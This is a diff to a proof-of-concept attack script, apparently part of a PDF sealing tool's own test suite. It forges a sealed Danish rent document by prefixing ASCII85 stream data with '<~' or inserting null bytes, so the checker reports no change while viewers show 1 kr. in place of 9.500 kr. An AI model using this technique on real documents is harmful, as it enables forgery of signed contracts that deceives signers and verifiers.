@@ -7,7 +7,8 @@
 // it), pdf.js decodes "\n(1 kr. pr. maaned) Tj 3 Tr %" there: the rent drawn as 1 kr., the sealed "9.500 kr."
 // after it drawn invisible (3 Tr).
 //   npx tsx scripts/attack-s15/a85-pdfjs.ts <honest|shifted>
-// honest: the same update with the sealed raw bytes (control); shifted: the 0x00 bytes inserted.
+// honest: the same update with the sealed raw bytes (control); shifted: the 0x00 bytes inserted; framed: "<~" put
+// before the sealed data (sealcheck skips Adobe's framing; pdf.js reads "<" as a digit and "~" as the end).
 import { PDFDocument, PDFName, StandardFonts } from "pdf-lib";
 import { mkdirSync, writeFileSync } from "node:fs";
 import { pki, save, show, tool, verify, work } from "../attack36/lib.js";
@@ -20,7 +21,11 @@ import { wholeSource } from "../../src/input/source.js";
 import { resolveLimits } from "../../src/limits.js";
 
 const mode = process.argv[2] ?? "shifted";
-if (!["honest", "shifted"].includes(mode)) throw new Error("usage: <honest|shifted>");
+if (!["honest", "shifted", "framed", "two-honest", "two-framed"].includes(mode)) throw new Error("usage: <honest|shifted|framed|two-honest|two-framed>");
+// two-*: page 1 has two content streams: the first draws "Husleje: 1 kr." (plain), the second (ASCII85) a white box
+// over it and "Husleje: 9.500 kr." (what everyone sees at sealing); two-framed puts "<~" before the second's data,
+// after which every reader decodes it as nothing and shows the first: "1 kr."; sealcheck skips "<~", sees no change.
+const TWO = mode.startsWith("two-");
 
 const P85 = 85 ** 4;
 /** Base-85 digits (five, most significant first) of a 32-bit value. */
@@ -121,8 +126,19 @@ async function original(): Promise<Uint8Array> {
   const font = await doc.embedFont(StandardFonts.Helvetica);
   const page = doc.addPage([595.2756, 841.8898]);
   page.node.set(PDFName.of("Resources"), doc.context.obj({ Font: { F1: font.ref } }));
-  const stream = doc.context.stream(Uint8Array.from(R0), { Filter: "ASCII85Decode" });
-  page.node.set(PDFName.of("Contents"), doc.context.register(stream));
+  if (TWO) {
+    const under = doc.context.register(doc.context.stream("BT /F1 12 Tf 60 716 Td (Husleje: 1 kr. pr. maaned) Tj ET\n"));
+    const overText = latin("1 g 55 705 320 28 re f 0 g BT /F1 12 Tf 60 716 Td (Husleje: 9.500 kr. pr. maaned) Tj ET\n");
+    const over = doc.context.register(
+      doc.context.stream(Uint8Array.from([...a85([...overText, ...latin(" ".repeat((4 - (overText.length % 4)) % 4))]), ...latin("~>")]), {
+        Filter: "ASCII85Decode",
+      }),
+    );
+    page.node.set(PDFName.of("Contents"), doc.context.obj([under, over]));
+  } else {
+    const stream = doc.context.stream(Uint8Array.from(R0), { Filter: "ASCII85Decode" });
+    page.node.set(PDFName.of("Contents"), doc.context.register(stream));
+  }
   return doc.save({ useObjectStreams: false });
 }
 
@@ -137,11 +153,13 @@ const sealed = sealPrepared(prepared, Pk);
 const doc = parsePdf(wholeSource(sealed), resolveLimits());
 const view = doc.latest();
 const page1 = walkPages(view)[0]!;
-if (page1.contents.length !== 1) throw new Error(`page 1 has ${page1.contents.length} content streams`);
-const contents = page1.contents[0]!;
+if (page1.contents.length !== (TWO ? 2 : 1)) throw new Error(`page 1 has ${page1.contents.length} content streams`);
+const contents = page1.contents.at(-1)!;
 const obj = view.object(contents);
 if (obj?.value.kind !== "stream") throw new Error("page 1 /Contents is not a stream");
-const data = Uint8Array.from(mode === "shifted" ? R1 : R0);
+// framed: the sealed data with Adobe's "<~" framing put before it, which sealcheck skips and pdf.js reads as data.
+const sealedRaw = [...view.rawStreamData(obj.value)];
+const data = Uint8Array.from(mode === "shifted" ? R1 : mode.endsWith("framed") ? [...latin("<~"), ...sealedRaw] : sealedRaw);
 const dictText = serialize(withEntry(obj.value.dict, "Length", int(data.length)));
 const raw = `${dictText}\nstream\n${Buffer.from(data).toString("latin1")}\nendstream`;
 const updated = appendUpdate(doc, [{ num: contents.num, gen: contents.gen, raw }], new NumberAllocator(doc)).bytes;
